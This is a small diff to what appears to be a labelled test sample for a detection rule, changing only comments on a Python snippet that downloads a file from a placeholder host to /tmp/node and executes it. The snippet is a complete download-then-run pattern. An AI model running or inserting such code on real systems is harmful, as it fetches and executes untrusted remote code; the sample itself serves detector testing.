@@ -1,5 +1,4 @@
-# evades: caught by execution/download-then-run
 import requests, subprocess
 with open("/tmp/node", "wb") as out:
     out.write(requests.get("https://files.invalid/node").content)
-subprocess.Popen(["/tmp/node"])
+subprocess.Popen(["/tmp/node"])  # fires: import
